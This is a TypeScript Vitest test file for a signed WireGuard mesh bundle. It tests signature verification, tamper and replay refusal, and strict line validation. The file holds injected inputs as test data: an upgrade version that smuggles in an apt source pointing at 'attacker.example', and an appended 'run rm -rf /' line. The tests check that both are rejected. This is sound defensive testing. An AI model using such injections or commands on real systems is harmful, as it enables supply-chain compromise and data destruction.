// The signed mesh bundle from the TypeScript side: what the engine signs, and what the simulated nodes accept.
import { sign, createPrivateKey } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  generateMeshSigningKeyPair,
  MESH_BUNDLE_KEY,
  MESH_BUNDLE_SIGNATURE_KEY,
  parseMeshBundle,
  serializeMeshBundle,
  signMeshBundle,
  verifyMeshBundle,
  type MeshBundle,
} from './mesh-bundle.js';

const key = generateMeshSigningKeyPair();
const other = generateMeshSigningKeyPair();
const work = mkdtempSync(join(tmpdir(), 'kubeplane-mesh-bundle-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const ATTACK_VERSION = '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example';

function bundle(serial = 7): MeshBundle {
  return {
    serial,
    peers: [
      { name: 'cp-1', publicKey: 'ZV5sk6FJ+VX1sntZlrBV1knDx7mI/Et3H2VjZdaDGTY=', overlayIp: '192.168.2.1', endpoint: '3.120.10.11:51820', behindNat: true },
      { name: 'worker-1', publicKey: 'U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI=', overlayIp: '192.168.2.21', behindNat: false },
    ],
    upgrade: { nodes: ['worker-1'], version: '1.35.0', package: '1.35.0-1.1', mode: 'node' },
    loadBalancers: { edge: 'stream {}\n' },
    meshReaderCertificates: {},
  };
}

/** Signs arbitrary bytes with the cluster key: what an attacker could do only with the private key. */
function signRaw(text: string, pem = key.privateKeyPem.reveal()): Record<string, string> {
  const bytes = Buffer.from(text);
  return { [MESH_BUNDLE_KEY]: bytes.toString('base64'), [MESH_BUNDLE_SIGNATURE_KEY]: sign(null, bytes, createPrivateKey(pem)).toString('base64') };
}

describe('the mesh bundle', () => {
  it('round-trips: what the engine signs, a node verifies and reads back as it was', () => {
    const data = signMeshBundle(bundle(), key.privateKeyPem);
    const check = verifyMeshBundle(data, key.publicKeyPem);
    expect(check).toEqual({ ok: true, bundle: bundle() });
  });

  it('is signed with Ed25519 over exactly the bytes in `bundle`, which `openssl pkeyutl -verify -rawin` accepts', () => {
    const data = signMeshBundle(bundle(), key.privateKeyPem);
    const files = { doc: join(work, 'doc'), sig: join(work, 'sig'), pub: join(work, 'pub.pem') };
    writeFileSync(files.doc, Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64'));
    writeFileSync(files.sig, Buffer.from(data[MESH_BUNDLE_SIGNATURE_KEY] ?? '', 'base64'));
    writeFileSync(files.pub, key.publicKeyPem);
    const verify = (doc: string) =>
      spawnSync('openssl', ['pkeyutl', '-verify', '-pubin', '-inkey', files.pub, '-rawin', '-in', doc, '-sigfile', files.sig], { encoding: 'utf8' });
    expect(verify(files.doc).status).toBe(0);
    writeFileSync(
      join(work, 'doc2'),
      Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64')
        .toString()
        .replace('serial 7', 'serial 8'),
    );
    expect(verify(join(work, 'doc2')).status).toBe(1);
  });

  it('is refused when signed by another key', () => {
    const data = signMeshBundle(bundle(), other.privateKeyPem);
    expect(verifyMeshBundle(data, key.publicKeyPem)).toEqual({ ok: false, reason: 'its signature does not verify with the mesh signing key' });
  });

  it('is refused when a peer line was changed after signing', () => {
    const data = signMeshBundle(bundle(), key.privateKeyPem);
    const text = Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64')
      .toString()
      .replace('3.120.10.11:51820', '6.6.6.6:51820');
    const check = verifyMeshBundle({ ...data, [MESH_BUNDLE_KEY]: Buffer.from(text).toString('base64') }, key.publicKeyPem);
    expect(check.ok).toBe(false);
  });

  it('is refused when its serial is below the last one applied (a replay), and accepted at the same serial again', () => {
    const old = signMeshBundle(bundle(6), key.privateKeyPem);
    expect(verifyMeshBundle(old, key.publicKeyPem, 7)).toEqual({ ok: false, reason: 'its serial 6 is below the last applied (7): a replay' });
    expect(verifyMeshBundle(signMeshBundle(bundle(7), key.privateKeyPem), key.publicKeyPem, 7).ok).toBe(true);
  });

  it('is never signed with an upgrade version that is not x.y.z (the apt source injection)', () => {
    expect(() => serializeMeshBundle({ ...bundle(), upgrade: { nodes: ['worker-1'], version: ATTACK_VERSION, package: '1.35.0-1.1', mode: 'node' } })).toThrow(
      /invalid upgrade line/,
    );
  });

  it('refuses the injection even when it carries a valid signature: every line must be one kubeplane writes', () => {
    const text = serializeMeshBundle(bundle()).replace('upgrade 1.35.0 1.35.0-1.1', `upgrade ${ATTACK_VERSION} 1.35.0-1.1`);
    const check = verifyMeshBundle(signRaw(text), key.publicKeyPem);
    expect(check).toMatchObject({ ok: false, reason: expect.stringMatching(/^line 5 is not one kubeplane writes/) });
  });

  it.each([
    ['a node name that is not DNS-1123', (t: string) => t.replace('peer worker-1', 'peer Worker_1')],
    [
      'a WireGuard key that is not 32 bytes of base64',
      (t: string) => t.replace('U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI=', 'U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI'),
    ],
    ['an overlay address that is not IPv4', (t: string) => t.replace('192.168.2.21', '192.168.2.321')],
    ['an endpoint with a port out of range', (t: string) => t.replace(':51820', ':75820')],
    ['a package of another version', (t: string) => t.replace('1.35.0-1.1', '1.34.0-1.1')],
    ['a mode other than apply|node', (t: string) => t.replace(' node worker-1', ' reset worker-1')],
    ['a second serial', (t: string) => t.replace('serial 7\n', 'serial 7\nserial 9\n')],
    [
      'the same node twice',
      (t: string) =>
        t.replace(
          'peer worker-1 U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI= 192.168.2.21',
          'peer cp-1 U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI= 192.168.2.21',
        ),
    ],
    ['a line of an unknown kind', (t: string) => `${t}run rm -rf /\n`],
  ])('refuses %s, even signed', (_, change) => {
    const text = change(serializeMeshBundle(bundle()));
    expect(text).not.toBe(serializeMeshBundle(bundle()));
    expect(verifyMeshBundle(signRaw(text), key.publicKeyPem).ok).toBe(false);
    expect(parseMeshBundle(text).ok).toBe(false);
  });

  it('holds nothing private: the ConfigMap data has no key material but the signature', () => {
    const data = JSON.stringify(signMeshBundle(bundle(), key.privateKeyPem));
    expect(data).not.toContain('PRIVATE KEY');
    expect(data).not.toContain(key.privateKeyPem.reveal().split('\n')[1]);
  });
});
